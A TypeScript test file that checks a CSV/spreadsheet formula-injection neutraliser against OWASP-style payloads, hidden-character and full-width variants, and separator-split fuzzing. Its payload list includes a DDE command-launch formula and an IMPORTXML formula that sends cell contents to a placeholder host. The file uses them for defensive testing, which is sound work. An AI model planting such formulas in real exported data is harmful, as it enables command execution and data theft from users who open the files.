import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_SPLIT, isFormulaLike, neutraliseCsvText, neutraliseFormula } from '../../core/text/formula-safe.ts';
import { HIDDEN_PAYLOADS, SEPARATOR_PAYLOADS } from '../support/formula-payloads.ts';

// OWASP CSV-injection payloads plus the tab/CR variants.
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://x","y")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
];

// What an outside attack pass got through the old first-character check (issue 13, item 4).
const HIDDEN_LEAD = [
  ...HIDDEN_PAYLOADS.filter((p) => !p.startsWith('＝')),
  '\v=1+1',
  '\f=1+1',
  '\u202e=1+1',
  '\u2060 \u00ad+1+1',
  '\u0085-1',
];
const FULL_WIDTH = ['＝1+1', '＋1', '－1', '＠SUM(1)', '\u3000＝HYPERLINK("http://x")'];
const ERROR_LITERALS = ['#N/A', '#n/a', '#DIV/0!', ' #REF! ', '#NAME?'];

describe('neutraliseFormula', () => {
  it.each(PAYLOADS)('turns %j into text that starts with a quote', (payload) => {
    const safe = neutraliseFormula(payload);
    expect(safe).toBe(`'${payload}`);
    expect(isFormulaLike(safe)).toBe(false);
  });

  it.each(HIDDEN_LEAD)('looks past leading whitespace, control, zero-width and bidi characters in %j', (payload) => {
    expect(isFormulaLike(payload)).toBe(true);
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it.each(FULL_WIDTH)('treats the full-width sign in %j like its ASCII twin', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it.each(ERROR_LITERALS)('keeps the error literal %j as text', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it('strips NUL characters wherever they are, and still neutralises what follows', () => {
    expect(neutraliseFormula('进\0展')).toBe('进展');
    expect(neutraliseFormula('\0=1+1')).toBe("'=1+1");
  });

  it('leaves ordinary Chinese progress text unchanged', () => {
    const text = '已入户走访 132 户，完成率 85%';
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('leaves text with an equals sign in the middle, or a leading # that is no error literal, unchanged', () => {
    expect(neutraliseFormula('目标=100户')).toBe('目标=100户');
    expect(neutraliseFormula('#3 号楼已完工')).toBe('#3 号楼已完工');
    expect(neutraliseFormula('  已完成')).toBe('  已完成');
  });

  it('is idempotent: neutralising twice adds only one quote', () => {
    for (const p of [...PAYLOADS, ...HIDDEN_LEAD, ...FULL_WIDTH, ...ERROR_LITERALS]) {
      expect(neutraliseFormula(neutraliseFormula(p))).toBe(neutraliseFormula(p));
    }
  });
});

describe('neutraliseCsvText', () => {
  it('puts an apostrophe before a sign behind a tab, comma, semicolon, space or line break', () => {
    expect(SEPARATOR_PAYLOADS.map(neutraliseCsvText)).toEqual([
      "abc\t'=1+1",
      "x;'=1+1",
      "y '=1+1",
      "z,'=1+1",
      "w\r'=1+1",
      "v\n'=1+1",
      "甲 乙;'@SUM(1+1)",
    ]);
    expect(neutraliseCsvText('\t=1+1')).toBe("'\t'=1+1");
    expect(neutraliseCsvText('a; \u200b＝1')).toBe("a; \u200b'＝1");
  });

  it('leaves text without such a sign as neutraliseFormula leaves it', () => {
    for (const t of ['已入户走访 132 户，完成率 85%', '目标=100户', '=1+1', '丁来村;永安村'])
      expect(neutraliseCsvText(t)).toBe(neutraliseFormula(t));
  });

  it('leaves no piece formula-like, wherever an importer cuts the text at its separators', () => {
    const char = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '＠',
      '\t',
      ',',
      ';',
      ' ',
      '\r',
      '\n',
      '\u200b',
      '\u3000',
      'a',
      '1',
      '张',
      "'",
      '"',
    );
    fc.assert(
      fc.property(
        fc.array(char, { maxLength: 24 }).map((a) => a.join('')),
        (text) => {
          const pieces = neutraliseCsvText(text).split(CSV_SPLIT);
          for (const p of pieces) expect(isFormulaLike(p), JSON.stringify({ text, p })).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
